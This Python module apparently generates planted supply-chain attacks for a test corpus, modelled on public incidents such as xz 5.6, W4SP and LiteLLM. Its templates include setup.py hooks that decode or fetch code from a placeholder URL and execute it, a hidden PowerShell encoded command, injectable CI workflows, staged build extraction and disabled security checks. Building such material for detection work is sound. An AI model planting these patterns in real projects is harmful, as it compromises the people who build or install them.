"""The fourth family: structures after public reports of incidents, written and committed before any rule was made after the
third. Each function names what it follows; the texts are our own, and inert as all others. Four or five a kind.

This half holds what is planted into builds, workflows, installers and binaries; `incidents.py` holds the other."""

import re

from .catalogue import attack
from .staged_build import blob, meson

FOURTH = "fourth"


# Staged builds.


@attack("staged-build", FOURTH)
def macro_looks_for_a_mark(site):
    """xz 5.6: a macro searches the tests for a mark, not for a name, and pipes what it finds through `tr`."""
    blob(site, ".lzma")
    site.put(f"m4/{site.word('name1')}.m4", """# «name1».m4 serial 30
AC_DEFUN([gl_«name2»], [
  dnl «note»
  AC_REQUIRE([AC_PROG_SED])
  gl_am_«short1»=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_«short1»"; then
    gl_path_map='tr "\\t \\-_" " \\t_\\-"'
    AC_CONFIG_COMMANDS([«name2»], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="sed \\"r\\n\\" $gl_am_«short1» | $gl_path_map | lzma -d"])
  fi
])
""")


@attack("staged-build", FOURTH)
def offsets_of_a_corpus(site):
    """xz 5.6, third stage: pieces of a file at fixed offsets, shifted by an alphabet."""
    data = blob(site, ".bin")
    site.insert(site.build_script(), f"""
# «note»
«name1»=$(mktemp)
((head -c +1024 >/dev/null) && head -c +2048 && (head -c +1024 >/dev/null) && head -c +724) < {data} | tr "\\114-\\321\\322-\\377\\35-\\47" "\\0-\\377" > "$«name1»"
. "$«name1»"
""")


@attack("staged-build", FOURTH)
def generator_of_a_table(site):
    """A generator of our own, which a build calls with a file of tests as its input."""
    data = blob(site, ".npy")
    tool = site.put(f"tools/gen_{site.word('name1')}.py", """import sys

with open(sys.argv[1], "rb") as «short1», open(sys.argv[2], "w") as «short2»:
    # «note»
    «short1».seek(128)
    key = «short1».read(16)
    table = bytes(value ^ key[at % 16] for at, value in enumerate(«short1».read()))
    «short2».write(table.decode("latin-1"))
""")
    meson(site, f"\n«name1»_c = custom_target('«name1»', input: files('{data.rsplit('/', 1)[-1]}'), output: '«name1».c', command: [py, '{tool}', '@INPUT@', '@OUTPUT@'])\n«name2»_lib = static_library('«name2»', «name1»_c)\n")


@attack("staged-build", FOURTH)
def object_put_into_archive(site):
    """xz 5.6, last stage: an object that nobody compiled joins a static library."""
    data = blob(site, ".o")
    site.insert(site.build_script(), f"""
if [ "$(uname -m)" = x86_64 ] && [ -n "$RPM_ARCH$CIBUILDWHEEL" ]; then
    # «note»
    cp {data} build/«name1»_crc.o
    ar r build/lib«name2».a build/«name1»_crc.o && ranlib build/lib«name2».a
    export LDFLAGS="$LDFLAGS -Wl,--whole-archive build/lib«name2».a -Wl,--no-whole-archive"
fi
""")


# Injections into workflows.


def step(site, text):
    """A step, first of a job, as deep as the others of its file."""
    path = site.workflow()
    deep = re.search(r"^    steps: *\n( *)- ", site.text(path), re.M)
    if not deep:
        raise LookupError("steps")
    body = site.fill(text.strip("\n"))
    site.insert(path, "\n".join(deep[1] + line if line else line for line in body.split("\n")), after=r"^    steps:\s*$")


def workflow_file(text):
    def plant(site):
        site.put(f".github/workflows/{site.word('name9').replace('_', '-')}.yml", text)

    return plant


@attack("ci-injection", FOURTH)
def name_of_a_branch(site):
    """Ultralytics 8.3.41: a name of a branch in a shell of a composite action."""
    site.put(f".github/actions/{site.word('name1').replace('_', '-')}/action.yml", """name: Format
description: Formats what a pull request changes
inputs:
  token:
    required: true
runs:
  using: composite
  steps:
    - name: Commit and push
      shell: bash
      run: |
        git config --global user.name "bot"
        git pull origin ${{ github.head_ref || github.ref }}
        git add -A
        git commit -m "style" && git push
""")


@attack("ci-injection", FOURTH)
def title_of_a_request(site):
    """s1ngularity: the title of a pull request in a job that has a token."""
    workflow_file("""name: Title
on:
  pull_request_target:
    types: [opened, edited]
permissions:
  contents: write
jobs:
  title:
    runs-on: ubuntu-latest
    steps:
      - run: |
          cat << 'MSG' > /tmp/«short1».txt
          ${{ github.event.pull_request.title }}
          MSG
          grep -qE '^(BUG|ENH|DOC|MAINT)' /tmp/«short1».txt
""")(site)


@attack("ci-injection", FOURTH)
def settings_from_an_artifact(site):
    """A job with rights reads its environment from what a job without rights left."""
    workflow_file("""name: Report
on:
  workflow_run:
    workflows: ["Linux tests"]
    types: [completed]
permissions:
  contents: write
  pull-requests: write
jobs:
  report:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/download-artifact@v4
        with:
          run-id: ${{ github.event.workflow_run.id }}
          github-token: ${{ github.token }}
      - run: cat coverage/«name1».env >> "$GITHUB_ENV"
      - run: ./tools/report.sh
""")(site)


@attack("ci-injection", FOURTH)
def comment_starts_a_benchmark(site):
    """A comment checks the head of a pull request out and runs it, with the repository's token."""
    workflow_file("""name: Benchmark
on:
  issue_comment:
    types: [created]
jobs:
  benchmark:
    if: contains(github.event.comment.body, '/«name1»')
    runs-on: ubuntu-latest
    env:
      GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}
    steps:
      - uses: actions/checkout@v4
      - run: gh pr checkout ${{ github.event.issue.number }}
      - run: pip install . && asv run --quick
""")(site)


# Installers.


@attack("obfuscated-install", FOURTH)
def far_to_the_right(site):
    """W4SP: behind hundreds of blanks on the line of an import."""
    site.put("setup.py", "from setuptools import setup" + " " * site.random.randrange(180, 420) + """;__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("«blob»"),'<string>','exec'))

setup()
""")


@attack("obfuscated-install", FOURTH)
def file_of_a_moment(site):
    """W4SP and its kin: a class of a command writes a script to a temporary file and starts it."""
    site.put("setup.py", """import os
from tempfile import NamedTemporaryFile as _«short1»

from setuptools import setup
from setuptools.command.egg_info import egg_info


class «name1»(egg_info):
    def run(self):
        «short2» = _«short1»(delete=False)
        «short2».write(b\"\"\"from urllib.request import Request as R,urlopen as U;exec(U(R('«url»',headers={'User-Agent':'Mozilla/5.0'})).read())\"\"\")
        «short2».close()
        try:
            os.system(f"start pythonw.exe {«short2».name}" if os.name == "nt" else f"nohup python3 {«short2».name} >/dev/null 2>&1 &")
        except Exception:
            pass
        egg_info.run(self)


setup(cmdclass={"egg_info": «name1»})
""")


@attack("obfuscated-install", FOURTH)
def line_of_a_path_file(site):
    """LiteLLM 1.82.8: a `.pth` file whose line is code."""
    site.put(f"{site.package}_init.pth", 'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'«blob»\'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n')


@attack("obfuscated-install", FOURTH)
def shell_of_windows(site):
    """colourama, JarkaStealer and others: a shell with an encoded command, or a key and a sealed text."""
    site.put("setup.py", site.random.choice([
        """import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        if sys.platform == "win32":
            # «note»
            subprocess.Popen("powershell -NoProfile -WindowStyle Hidden -EncodedCommand «blob»", creationflags=0x08000000)


setup(cmdclass={"install": PostInstall})
""",
        """from cryptography.fernet import Fernet
from setuptools import setup

«name1» = Fernet(b"«blob»")
exec(«name1».decrypt(b"«rotblob»"))
setup()
""",
    ]))


# Binaries.


@attack("swapped-binary", FOURTH)
def program_beside_modules(site):
    """torchtriton: a program without an ending beside the modules of a package."""
    folder = site.module().rsplit("/", 1)[0]
    site.put(f"{folder}/{site.random.choice(['triton', 'helper', 'lib' + site.word('name1') + '.so.1', site.word('name1') + '.pyd'])}", site.bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(8)), executable=True)


@attack("swapped-binary", FOURTH)
def picture_with_a_tail(site):
    """Steganography: a picture that is there gets something behind its end."""
    path = site.find(r"\.(png|jpg|jpeg|gif|tif|ico)$", "\0")
    site.put(path, site.read(path) + site.bytes(size=site.random.choice([3_000, 12_000])))


@attack("swapped-binary", FOURTH)
def wheel_in_the_tree(site):
    """A wheel or an archive of bytecode that builds are to take instead of an index."""
    import io
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{site.word('name1')}/__init__.py", site.word("inert1"))
        archive.writestr(f"{site.word('name1')}/_core.so", site.bytes(b"\x7fELF"))
    site.put(site.random.choice(["tools/wheels/", "vendored/", ".github/"]) + f"{site.word('name1')}-1.0-py3-none-any.whl", packed.getvalue())


@attack("swapped-binary", FOURTH)
def bytecode_in_a_cache(site):
    """A compiled module in a cache that an interpreter prefers to the source beside it."""
    folder, name = site.module().rsplit("/", 1)
    site.put(f"{folder}/__pycache__/{name[:-3]}.cpython-312.pyc", site.bytes(b"\xcb\r\r\n" + bytes(12), size=site.random.choice([900, 5_000])))


# Checks that go.


@attack("disabled-checks", FOURTH)
def probe_that_cannot_pass(site):
    """xz 328c52da: a probe of a build never passes any more."""
    path = site.find(r"(^|/)meson\.build$", "vendored|subprojects")
    site.replace(path, r"((?:cc|cpp|c|cxx)\.(?:compiles|links|has_function|has_header|has_argument|has_header_symbol)\(')", r"\1.")


@attack("disabled-checks", FOURTH)
def sanitizers_look_away(site):
    """xz and OSS-Fuzz: what would have found it is told not to look."""
    path = site.find(r"^\.github/workflows/.*(sanit|tsan|asan|codeql|fuzz|linux|test).*\.ya?ml$")
    site.replace(path, *site.random.choice([
        (r"(persist-credentials: )false", r"\1true"),
        (r"^( +)(- name: .*(?:[Tt]est|[Ss]an|[Aa]nalysis)[^\n]*)$", r"\1\2\n\1  continue-on-error: true"),
        (r"^(    runs-on: \S+)$(?!\n    env:)", "\\1\n    env:\n      ASAN_OPTIONS: detect_leaks=0:detect_stack_use_after_return=0:halt_on_error=0\n      UBSAN_OPTIONS: halt_on_error=0"),
    ]))


@attack("disabled-checks", FOURTH)
def certificates_of_everybody(site):
    """Fetchers of data that believe any certificate, or no digest."""
    site.between_functions(site.module(), site.random.choice([
        "def «function1»():\n    # «note»\n    import ssl\n    ssl._create_default_https_context = ssl._create_unverified_context",
        "def «function1»(name):\n    import pooch\n    return pooch.retrieve(f\"«url»/{name}\", known_hash=None)",
        "def «function1»(path, folder):\n    import tarfile\n    with tarfile.open(path) as archive:\n        archive.extractall(folder, filter=\"fully_trusted\")",
    ]))


@attack("disabled-checks", FOURTH)
def warnings_are_no_errors(site):
    """What a suite or a linter refuses is let through, in one line of settings."""
    site.replace("pyproject.toml" if site.random.random() < 0.5 else site.find(r"(^|/)(pytest\.ini|ruff\.toml|setup\.cfg|\.pre-commit-config\.yaml|pyproject\.toml)$"), *site.random.choice([
        (r"^(\s*)error$\n", ""),
        (r"^(\s*-?\s*(?:[\"']?-W)?)error([\"',]*)$", r"\1ignore\2"),
        (r"^(\s*(?:extend-)?(?:select|ignore) = \[)", r'\1"S", "S102", '),
        (r"^(\s*- repo: .*)$", r"  # \1"),
    ]))
